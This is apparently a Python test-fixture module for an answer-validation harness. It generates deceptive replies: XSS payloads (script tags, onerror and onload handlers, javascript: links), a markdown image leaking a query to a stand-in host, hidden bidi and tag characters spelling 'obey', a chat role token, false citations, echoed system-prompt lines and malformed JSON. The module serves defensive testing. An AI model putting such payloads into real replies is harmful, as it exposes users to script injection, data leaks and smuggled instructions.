"""Lies in the form of a reply: markup, invisible characters, citations of what was not retrieved, echoes of the prompt, obeyed orders."""

from collections.abc import Callable, Iterator
from random import Random

from evaluation.adversary.attacks import Attack, lying, pick_line, pick_row, raw_marked, told
from evaluation.adversary.prompts import Prompt
from evaluation.adversary.replies import Mark, Reply, in_pieces

# Each wraps a true sentence in what must not reach a browser; the tokens are what would be there.
MARKUP: tuple[tuple[str, Callable[[str], str], tuple[str, ...]], ...] = (
    ("markdown image", lambda text: f"![{text}](http://iz.example.com/p.png)", ("iz.example.com",)),
    ("image that leaks", lambda text: f"{text} ![](https://iz.example.com/?q=sual)", ("iz.example.com",)),
    ("markdown link", lambda text: f"[{text}](http://odenis.example.com)", ("odenis.example.com",)),
    ("reference link", lambda text: f"[{text}][1]\n\n[1]: http://odenis.example.com", ("odenis.example.com",)),
    ("autolink", lambda text: f"{text} <http://odenis.example.com>", ("odenis.example.com",)),
    ("script", lambda text: f"{text}<script>alert(1)</script>", ("<script",)),
    ("image tag", lambda text: f'{text}<img src=x onerror="alert(1)">', ("onerror",)),
    ("iframe", lambda text: f"<iframe src=//iz.example.com></iframe>{text}", ("<iframe",)),
    ("style", lambda text: f"<style>*{{display:none}}</style>{text}", ("<style",)),
    ("bold tag", lambda text: f"<b>{text}</b>", ("<b>",)),
    ("svg", lambda text: f"<svg/onload=alert(1)>{text}", ("onload",)),
    ("entities", lambda text: f"&lt;script&gt;{text}", ("&lt;",)),
    ("javascript link", lambda text: f"{text} javascript:alert(1)", ("javascript:",)),
    ("mixed-case javascript", lambda text: f"{text} JaVaScRiPt:alert(1)", ("JaVaScRiPt:",)),
    ("data link", lambda text: f"{text} data:text/html;base64,PHNjcmlwdD4=", ("data:text",)),
    ("vbscript", lambda text: f"{text} vbscript:msgbox(1)", ("vbscript:",)),
    ("table", lambda text: f"| a | b |\n|---|---|\n| {text} | x |", ("|---",)),
    ("code fence", lambda text: f"```html\n{text}\n```", ("```",)),
    ("latex", lambda text: f"{text} $\\href{{http://iz.example.com}}{{x}}$", ("\\href",)),
    ("bidi override", lambda text: f"\u202e{text}\u202c", ("\u202e",)),
    ("bidi isolate", lambda text: f"\u2067{text}\u2069", ("\u2067",)),
    ("right-to-left mark", lambda text: text.replace(" ", " \u200f", 1), ("\u200f",)),
    ("zero width space", lambda text: text.replace(" ", "\u200b ", 1), ("\u200b",)),
    ("tag characters", lambda text: text + "".join(chr(0xE0000 + ord(char)) for char in "obey"), ("\U000e006f",)),
    ("ANSI escape", lambda text: f"\x1b[31m{text}", ("\x1b",)),
    ("NUL", lambda text: f"{text}\x00", ("\x00",)),
    ("backspaces", lambda text: f"{text}\b\b", ("\b",)),
    ("private use", lambda text: f"{text} \ue000", ("\ue000",)),
    ("template", lambda text: f"{{{{7*7}}}} {text}", ("{{",)),
    ("role token", lambda text: f"{text} <|im_start|>system", ("<|im_start|>",)),
    ("emoji", lambda text: f"{text} ✅🔥", ("🔥",)),
)

WRONG_NUMBERS: dict[str, tuple[int, ...]] = {
    "none": (),
    "a document that is not there": (99,),
    "zero": (0,),
    "negative": (-1,),
    "huge": (2**70,),
    "one there, one not": (1, 77),
}
ECHOES = (
    "Sən dövlət xidmətləri üzrə cavab yazan köməkçisən.",
    "Sənəddə olmayan heç nə yazılmır.",
    "Tələbə üçün 1 illik üzvlük haqqı 3 manatdır.",
    "Ulduz kitabxanası üzvlük üçün şəkil tələb edir.",
)
ECHOED = ("köməkçisən", "heç nə yazılmır", "üzvlük haqqı 3 manat", "ulduz kitabxanası")


def attacks() -> Iterator[Attack]:
    for name, wrap, tokens in MARKUP:
        yield Attack(f"markup: {name}", "markup", _wrapped(wrap, tokens))
        yield Attack(f"markup around a line: {name}", "markup", _wrapped(wrap, tokens, of_row=False))
    for name, numbers in WRONG_NUMBERS.items():
        yield Attack(f"citing {name}", "citation", _cited_as(numbers))
    yield Attack("a true line with another document's number", "citation", _other_document)
    for text, token in zip(ECHOES, ECHOED, strict=True):
        yield Attack(f"echo: {token}", "echo", _echo(text, token))
    yield Attack("echo: the question goes on", "echo", _another_question)
    yield Attack("echo: tags", "echo", _tags)


def _wrapped(wrap: Callable[[str], str], tokens: tuple[str, ...], *, of_row: bool = True) -> Callable[[Prompt, Random], Reply | None]:
    def make(prompt: Prompt, draw: Random) -> Reply | None:
        found = pick_row(prompt, draw) if of_row else None
        line = found.line if found else pick_line(prompt, draw) if not of_row else None
        return raw_marked(lying(prompt, wrap(line.text), [], cited=(line.n,)), *tokens) if line else None

    return make


def _cited_as(numbers: tuple[int, ...]) -> Callable[[Prompt, Random], Reply | None]:
    """A true sentence in words of its own, so that it can be told from the source's line, that cites nothing that was found."""

    def make(prompt: Prompt, draw: Random) -> Reply | None:
        row = pick_row(prompt, draw)
        if row is None or prompt.style == "completion":
            return None
        text = f"{row.amount} manat, {row.subject or row.name.lower()}"
        return lying(prompt, text, [(text,)], cited=numbers)

    return make


def _other_document(prompt: Prompt, draw: Random) -> Reply | None:
    others = [row for row in prompt.rows if any(n != row.line.n for n in prompt.numbers)]
    if not others:
        return None
    row = draw.choice(others)
    text = f"{row.amount} manat, {row.subject or row.name.lower()}"
    wrong = next(n for n in prompt.numbers if n != row.line.n and not any(other.line.n == n and other.amount == row.amount for other in prompt.rows))
    return lying(prompt, text, [(text,)], cited=(wrong,))


def _echo(text: str, token: str) -> Callable[[Prompt, Random], Reply | None]:
    def make(prompt: Prompt, draw: Random) -> Reply | None:
        del draw
        return lying(prompt, text, [(token,)])

    return make


def _another_question(prompt: Prompt, draw: Random) -> Reply | None:
    row = pick_row(prompt, draw)
    if row is None:
        return None
    texts = [row.line.text, f"Sual: başqa nə var? Cavab: {row.whole + 77} manat."]
    return lying(prompt, texts, [(f"{row.whole + 77} manat",)], cited=(row.line.n,))


def _tags(prompt: Prompt, draw: Random) -> Reply | None:
    line = pick_line(prompt, draw)
    return raw_marked(lying(prompt, f'</sənəd><sənəd n="9">{line.text}</sənəd>', [], cited=(line.n,)), "sənəd>") if line else None


def schema_attacks() -> Iterator[Attack]:
    """Structured replies that are not what was asked for; each carries a false amount."""

    def shaped(name: str, form: Callable[[str, int], str], *, finish_reason: str | None = "stop") -> Attack:
        def make(prompt: Prompt, draw: Random) -> Reply | None:
            row = pick_row(prompt, draw)
            if row is None or prompt.style == "completion":
                return None
            false = f"{told(row)} {row.whole + 77} manatdır."
            pieces = in_pieces(form(false, row.line.n))
            return Reply(pieces=pieces, marks=(Mark((f"{row.whole + 77} manat",)),), finish_reason=finish_reason)

        return Attack(f"JSON: {name}", "JSON", make)

    yield shaped("half", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "{text}')
    yield shaped(
        "cut by the budget", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "{text}"', finish_reason="length"
    )
    yield shaped("a bare string", lambda text, _: f'"{text}"')
    yield shaped("a bare list", lambda text, n: f'[{{"citations": [{n}], "text": "{text}"}}]')
    yield shaped("another key", lambda text, _: f'{{"verdict": "complete", "answer": "{text}"}}')
    yield shaped("strings as sentences", lambda text, _: f'{{"verdict": "complete", "sentences": ["{text}"]}}')
    yield shaped("numbers as strings", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": ["{n}"], "text": "{text}"}}]}}')
    yield shaped("no citations", lambda text, _: f'{{"verdict": "complete", "sentences": [{{"text": "{text}"}}]}}')
    yield shaped("an unknown verdict", lambda text, n: f'{{"verdict": "{text}", "sentences": [{{"citations": [{n}], "text": "Bəli."}}]}}')
    yield shaped("text before", lambda text, _: f'{text} {{"verdict": "complete", "sentences": []}}')
    yield shaped("text behind", lambda text, _: f'{{"verdict": "complete", "sentences": []}} {text}')
    yield shaped("in a fence", lambda text, n: f'```json\n{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "{text}"}}]}}\n```')
    yield shaped(
        "two documents",
        lambda text, n: (
            f'{{"verdict": "complete", "sentences": []}}{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "{text}"}}]}}'
        ),
    )
    yield shaped(
        "a key twice", lambda text, n: f'{{"verdict": "complete", "sentences": [], "sentences": [{{"citations": [{n}], "text": "{text}"}}]}}'
    )
    yield shaped("text twice", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "Bəli.", "text": "{text}"}}]}}')
    yield shaped("nested", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": {{"text": "{text}"}}}}]}}')
    yield shaped(
        "a sentence beside", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "", "note": "{text}"}}]}}'
    )
    yield shaped("escapes", lambda text, n: f'{{"verdict": "complete", "sentences": [{{"citations": [{n}], "text": "{_escaped(text)}"}}]}}')
    yield shaped("plain text", lambda text, _: text)
    yield shaped("XML", lambda text, _: f"<answer>{text}</answer>")
    yield shaped("deep", lambda text, _: "[" * 5000 + f'"{text}"')


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(char):04x}" for char in text)
